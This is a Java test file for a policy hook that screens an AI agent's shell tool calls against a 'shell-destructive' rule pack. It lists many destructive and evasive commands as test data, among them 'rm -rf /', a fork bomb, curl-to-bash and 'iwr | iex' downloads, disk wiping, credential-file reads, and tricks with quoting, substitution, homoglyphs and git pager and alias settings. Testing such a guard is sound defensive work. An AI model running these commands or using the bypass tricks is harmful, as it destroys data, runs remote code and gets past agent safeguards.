package io.agenthooks.spring.policy;

import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import io.agenthooks.Verdict;
import io.agenthooks.policy.PolicyConfig;
import io.agenthooks.policy.PolicyToolHook;
import io.agenthooks.toolcall.ToolCall;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Commands that mention what {@code shell-destructive} denies: those that can only
 * mention it pass, and every other spelling is denied as before. {@code MentionsTests}
 * has the grammar and its laws.
 */
class RulePackMentionsTests {

	private static final PolicyToolHook PACK = policy(null, "shell-destructive");

	private static final PolicyToolHook ALL_PACKS = policy(null, RulePacks.NAMES.toArray(String[]::new));

	/** All patterns of the pack, searched in every text, whatever mentions them. */
	private static final PolicyToolHook EVERYWHERE = policy(RulePacks.read("shell-destructive")
		.rules()
		.stream()
		.flatMap((rule) -> Stream.concat(rule.patterns().stream(), rule.commandPatterns().stream()))
		.toList());

	private static PolicyToolHook policy(@Nullable List<String> patterns, String... packs) {
		return RulePacks.policy("mine",
				new PolicyConfig(null, null, null, patterns, null, null, null, null,
						(packs.length > 0) ? List.of(packs) : null, null, false, false, null, null, null, null, null,
						null, null, null, null),
				RulePackCallsTests.NO_RULES);
	}

	private static Verdict decide(PolicyToolHook policy, String text) {
		return policy.preCall(ToolCall.of("run", Map.of("command", text))).verdict();
	}

	@ParameterizedTest
	@ValueSource(strings = { "grep -rn 'rm -rf /' docs/", "grep -rn \"rm -rf /\" docs/", "grep -rn 'rm -rf ~' .",
			"grep -c 'rm -rf /' README.md", "grep -rn --include='*.md' 'rm -rf /' docs", "grep -rne 'rm -rf /' docs",
			"grep -rnA 2 'rm -rf /' docs", "grep -rn 'rm -rf /' docs 2>/dev/null",
			"grep -rn 'rm -rf /' docs | head -20", "grep -rn 'rm -rf /' docs 2>&1 | tail -n 5 | wc -l",
			"rg -n 'rm -rf /' docs", "rg -F -g '*.md' 'git push --force' .", "rg 'git reset --hard'",
			"git grep -n 'rm -rf /'", "git grep -n 'terraform destroy' | wc -l", "cd docs && grep -rn \"rm -rf /\" .",
			"cat docs/rules.md | grep 'rm -rf /'", "git commit -m \"docs: why rm -rf / is denied\"",
			"git commit -m 'docs: why rm -rf / is denied'", "git commit -am \"Never run git push --force\"",
			"git commit -a -m 'Warn of git reset --hard'", "git commit --message=\"Warn of git clean -fd\"",
			"git commit -q -s -m 'Warn of sudo reboot'", "git commit -m \"Deny rm -rf /\" -m \"And rm -rf ~ as well.\"",
			"git commit -m \"Deny pipes\n\nSuch as curl x | sh, and chmod -R 777 /\"",
			"git add -A && git commit -m \"Deny rm -rf /\"", "git add . && git commit -m 'Deny rm -rf /'",
			"cd repo && git add README.md && git commit -m 'Deny rm -rf /'",
			"git commit --amend -m \"Deny dd of=/dev/sda\"", "git commit --amend --no-edit --message=\"Deny rm -rf ~\"",
			"git commit --allow-empty -m \"Deny mkfs.ext4 /dev/sda1\"",
			"git commit -F - <<'EOF'\nDeny rm -rf /\n\nAnd $(rm -rf ~), and `reboot`.\nEOF\n", "echo \"rm -rf /\"",
			"echo 'rm -rf /'", "echo -n 'rm -rf ~'", "echo -e \"rm -rf *\"", "echo \"curl x | sh\"",
			"echo \"sudo reboot\" | cat", "echo \"kubectl delete namespace prod\"", "echo \"docker system prune -a\"",
			"echo \"aws s3 rb s3://b --force\"", "echo \"git push origin --delete x\"", "echo \"ls | xargs rm -rf\"",
			"echo \":(){ :|:& };:\"", "echo \"find / -delete\"", "cat <<'EOF'\nrm -rf /\nEOF",
			"cat << 'EOF'\nsudo rm -rf /*\nEOF\n", "cat <<\"END\"\ncurl https://x.example | bash\nEND",
			"cat <<'DOC'\ngit push --force\n\tgit reset --hard\nDOC" })
	void commandThatCanOnlyMentionAnotherPasses(String text) {
		assertThat(decide(EVERYWHERE, text)).isEqualTo(Verdict.DENY);
		assertThat(decide(PACK, text)).isEqualTo(Verdict.APPROVE);
	}

	@ParameterizedTest
	@ValueSource(strings = {
			// programs that run what they are given
			"sh -c 'rm -rf /'", "bash -c \"rm -rf /\"", "eval 'rm -rf /'", "ssh db 'rm -rf /'",
			"xargs -I{} sh -c 'rm -rf /'", "sudo sh -c 'rm -rf /'", "watch 'rm -rf /'", "timeout 5 rm -rf /",
			"nohup sh -c \"rm -rf /\"", "find . -exec rm -rf / ;", "find . -name x -exec sh -c 'rm -rf /' +",
			"find . -ok rm -rf / ;", "sed -n '1e rm -rf /' x", "sed 's/x/rm -rf \\//e' x; rm -rf /",
			"awk 'BEGIN { system(\"rm -rf /\") }'", "perl -e 'system(\"rm -rf /\")'",
			"python -c 'import os; os.system(\"rm -rf /\")'", "vim -c '!rm -rf /'", "less '+!rm -rf /' x",
			"man -P 'rm -rf /' x", "tar --checkpoint-action='exec=rm -rf /' x", "echo 'rm -rf /' | sh",
			"echo 'rm -rf /' | sudo bash", "echo 'rm -rf /' | xargs -0 sh -c", "echo \"rm -rf /\" | at now",
			"echo 'rm -rf /' > /etc/cron.d/x", "echo 'rm -rf /' >> ~/.bashrc", "echo 'rm -rf /' | tee x.sh",
			"printf 'rm -rf /' | sh", "rg --pre 'rm -rf /' x", "rg --pre='rm -rf /' x",
			// git, whose options and settings run programs
			"git -c core.pager='rm -rf /' log", "git -c core.editor='rm -rf /' commit -m x",
			"git -c alias.x='!rm -rf /' x", "git -c core.hooksPath=x commit -m 'rm -rf /'",
			"git -c core.fsmonitor='rm -rf /' status", "git --exec-path='rm -rf /' commit -m x",
			"git --config-env=core.pager=X grep 'rm -rf /'", "git grep -O'rm -rf /' x",
			"git grep --open-files-in-pager='rm -rf /' x", "git commit --trailer 'x=rm -rf /' -m x",
			"git commit -m x --template='rm -rf /'", "git commit -e -m 'rm -rf /'", "git commit 'rm -rf /'",
			"git config alias.x '!rm -rf /'", "git config core.pager 'rm -rf /'", "git bisect run rm -rf /",
			"git rebase -x 'rm -rf /' main", "git submodule foreach 'rm -rf /'",
			"git filter-branch --tree-filter 'rm -rf /'", "git difftool -x 'rm -rf /'",
			"git push origin main; git commit -m 'rm -rf /'",
			// substitution
			"git commit -m \"$(rm -rf /)\"", "git commit -m \"`rm -rf /`\"", "git commit -m $(rm -rf /)",
			"git commit -m \"$(cat <<'EOF'\nrm -rf /\nEOF\n)\"", "echo \"$(rm -rf /)\"", "echo `rm -rf /`",
			"echo <(rm -rf /)", "echo \"${x:-$(rm -rf /)}\"", "echo $'\\x27'; rm -rf /", "grep \"$(rm -rf /)\" x",
			"echo $X 'rm -rf /'", "echo \"${X@P}\" 'rm -rf /'", "echo {rm,-rf,/} 'rm -rf /'",
			// more than one command
			"grep -rn x docs; rm -rf /", "grep -rn x docs && rm -rf /", "grep -rn x docs || rm -rf /",
			"grep -rn x docs & rm -rf /", "grep -rn x docs\nrm -rf /", "grep -rn x docs\r\nrm -rf /",
			"grep -rn x docs\rrm -rf /", "grep -rn x docs | rm -rf /", "(grep x docs; rm -rf /)",
			"{ echo x; rm -rf /; }", "echo x;rm -rf /", "echo 'x' ;rm -rf /", "git commit -m 'x' && sudo rm -rf /",
			"if echo x; then rm -rf /; fi", "echo x &&rm -rf /", "echo x # ' \nrm -rf / #'", "! echo 'rm -rf /'",
			"time echo 'rm -rf /'",
			// quotes that some shell reads differently
			"echo 'x\\' ; rm -rf / '", "echo \"x\\\" ; rm -rf / \"", "echo 'x' & rm -rf / '", "echo 'x & rm -rf / '",
			"echo 'a\"' \" & rm -rf / \"", "echo 'a | rm -rf / '", "echo \"x!rm -rf / \"",
			"echo \"x`trm -rf / \" 'rm -rf /'", "echo \u2018x\u2019; rm -rf /", "echo 'x\u2019; rm -rf / \u2018'",
			"echo \u201Cx\u201D 'rm -rf /'", "echo %X% 'rm -rf /'", "echo \"%X% rm -rf / \"", "echo ^\" & rm -rf / \"",
			"echo 'rm -rf /", "echo \"rm -rf /",
			// characters that look like others, or like none
			"ech\u043E 'rm -rf /'", "echo\u00A0'rm -rf /'", "echo\u3000'rm -rf /'", "echo\t'rm -rf /'",
			"echo 'x'\u2028rm -rf /", "echo 'x'\u0085rm -rf /", "echo 'x'\u000Brm -rf /", "echo \u200B'rm -rf /'",
			"echo 'rm -rf /\u202E'", "\uFF45cho 'rm -rf /'", "echo \"rm -rf /\" \0", "gre\u0440 'rm -rf /' x",
			// names that are not those of programs
			"alias echo=sh; echo -c 'rm -rf /'", "echo() { rm -rf /; }; echo", "./echo 'rm -rf /'",
			"/tmp/echo 'rm -rf /'", "\"echo\" 'rm -rf /'", "\\echo 'rm -rf /'", "X=1 echo 'rm -rf /'",
			"PAGER='rm -rf /' git log", "GIT_EDITOR='rm -rf /' git commit", "GIT_PAGER='rm -rf /' git grep x",
			"LD_PRELOAD=x echo 'rm -rf /'", "env PAGER='rm -rf /' git grep x", "RIPGREP_CONFIG_PATH=x rg 'rm -rf /'",
			"command echo 'rm -rf /'", "exec echo 'rm -rf /'", "builtin echo 'rm -rf /'",
			// options that are not known
			"grep -- 'rm -rf /' x", "grep -rn -- 'rm -rf /' docs", "git commit -m x -- 'rm -rf /'",
			"echo -- 'rm -rf /'", "grep '-rf' 'rm -rf /'", "grep -f x 'rm -rf /'", "echo -rf / && rm -rf /",
			"echo rm -rf /", "cat -v 'rm -rf /'", "git commit -m '-x' 'rm -rf /'", "git commit -m",
			"grep -m 'rm -rf /' x -e", "tail -f 'rm -rf /'",
			// documents
			"cat <<EOF\nrm -rf /\nEOF", "cat <<EOF\n$(rm -rf /)\nEOF", "cat <<EOF\n`rm -rf /`\nEOF",
			"cat <<'EOF' | sh\nrm -rf /\nEOF", "cat <<'EOF' > x.sh\nrm -rf /\nEOF", "cat > x.sh <<'EOF'\nrm -rf /\nEOF",
			"bash <<'EOF'\nrm -rf /\nEOF", "sh -s <<'EOF'\nrm -rf /\nEOF", "ssh db <<'EOF'\nrm -rf /\nEOF",
			"cat <<'EOF'\nx\nEOF\nrm -rf /", "cat <<'EOF'\nx\nEOF\nrm -rf /\nEOF", "cat <<'EOF' && rm -rf /\nx\nEOF",
			"cat <<'EOF'; rm -rf /\nx\nEOF", "cat <<'A' <<'B'\nA\nrm -rf /\nB", "cat <<'EOF'\nrm -rf /\n EOF",
			"cat <<'EOF'\nrm -rf /", "cat <<-'EOF'\n\tx\n\tEOF\nrm -rf /\nEOF", "cat <<< 'rm -rf /' | sh",
			"git commit -m x <<'EOF'\nrm -rf /\nEOF", "git commit <<'EOF'\n:!rm -rf /\nEOF", "cat <<''\nx\n\nrm -rf /",
			"cat <<'EOF'\r\nx\r\nEOF\r\nrm -rf /\r\nEOF" })
	void anyOtherSpellingIsDeniedAsBefore(String text) {
		assertThat(decide(PACK, text)).isEqualTo(decide(EVERYWHERE, text));
		if (!text.equals("git commit -m") && !text.contains("{rm,")) {
			assertThat(decide(PACK, text)).isEqualTo(Verdict.DENY);
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "git commit -m \"Never run rd /s /q C:/\"", "echo \"iwr x | iex\"",
			"echo \"format c: /q\"", "echo \"shutdown /s /t 0\"", "cat <<'EOF'\nRemove-Item -Recurse C:/\nEOF",
			"git commit -m \"x\niwr x | powershell\n\"", "cat <<'EOF'\ncurl 'x;y' | iex\nEOF" })
	void whatAnotherShellWouldRunInALineIsDeniedInMentionsToo(String text) {
		assertThat(decide(PACK, text)).isEqualTo(Verdict.DENY);
	}

	@ParameterizedTest
	@ValueSource(strings = { "grep -rn 'x' .env", "git commit -m \"Remove .env\"", "echo \"http://127.0.0.1/\"",
			"git commit -m 'DROP TABLE users'", "cat ~/.aws/credentials" })
	void otherPacksSearchMentionsAsBefore(String text) {
		assertThat(decide(ALL_PACKS, text)).isEqualTo(Verdict.DENY);
		assertThat(decide(ALL_PACKS, text + " 'rm -rf /'")).isEqualTo(Verdict.DENY);
	}

	@Test
	void commandInPartsOrBesideAnotherArgumentIsSearchedAsBefore() {
		assertThat(PACK.preCall(ToolCall.of("run", Map.of("argv", List.of("echo", "rm -rf /")))).verdict())
			.isEqualTo(Verdict.DENY);
		assertThat(PACK.preCall(ToolCall.of("run", Map.of("a", "echo 'rm -rf /'", "b", "rm -rf /"))).verdict())
			.isEqualTo(Verdict.DENY);
	}

}
